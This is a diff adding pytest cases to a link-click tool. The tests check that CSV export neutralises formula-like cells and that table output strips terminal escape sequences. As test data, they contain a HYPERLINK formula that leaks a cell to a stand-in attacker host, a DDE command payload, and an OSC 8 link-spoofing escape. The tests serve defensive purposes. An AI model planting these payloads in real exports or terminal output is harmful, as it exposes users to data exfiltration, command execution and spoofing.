@@ -121,6 +121,50 @@ def test_clicks_list_and_export(capsys: pytest.CaptureFixture[str], env: Path) -
     assert code == 2 and "--since" in err
 
 
+def test_csv_export_neutralises_formulas(capsys: pytest.CaptureFixture[str], env: Path) -> None:
+    """A CSV cell that starts like a formula (=, +, -, @, tab, CR) is exported with a leading quote (OWASP)."""
+    import asyncio
+    from datetime import UTC, datetime
+
+    from shared.clicks import ActionType, Click, Workload
+    from shared.store import open_database
+    from shared.store.clicks import ClickStore
+
+    agents = ['=HYPERLINK("https://evil.example/?x="&A1,"Open")', "+SUM(1)", "-2+3", "@cmd", "\tTAB", "\rCR",
+              " =1", "Mozilla/5.0"]
+
+    async def seed() -> None:
+        db = await open_database(f"sqlite:///{env / 'var' / 'safelinks.db'}")
+        store = ClickStore(db)
+        store.start()
+        for n, agent in enumerate(agents):
+            await store.record(Click(report_id=f"r{n}", timestamp=datetime.now(UTC), url=f"https://e.example/{n}",
+                                     action_type=ActionType.CLICK_ALLOWED, workload=Workload.TEAMS, verdict="clean",
+                                     account_upn="=cmd|' /C calc'!A0@contoso.com", user_agent=agent))
+        await store.close()
+        await db.close()
+
+    asyncio.run(seed())
+    code, out, _ = run(capsys, "clicks", "export", "--format", "csv")
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert code == 0 and sorted(r["UserAgent"] for r in rows) == sorted(
+        [*("'" + a for a in agents[:-1]), "Mozilla/5.0"])
+    assert {r["AccountUpn"] for r in rows} == {"'=cmd|' /C calc'!A0@contoso.com"}
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
+
+
+def test_tables_print_outside_text_as_one_plain_line() -> None:
+    """A table cell holds no control character: no ANSI colour, no OSC 8 terminal link, no second line."""
+    from safelinks.cli.table import print_table
+
+    out = io.StringIO()
+    print_table(["User", "Url"], [("Mallory\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07\nforged row",
+                                   "https://evil.example/\x1b[31mred")], out=out)
+    text = out.getvalue()
+    assert "\x1b" not in text and "\x07" not in text and len(text.splitlines()) == 3
+    assert "https://evil.example/" in text  # addresses stay whole on the command line, to be copied
+
+
 def test_bad_configuration_names_the_key(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
     """A bad setting exits 2 naming the environment variable."""
     monkeypatch.setenv("SAFELINKS_PORT", "eighty")
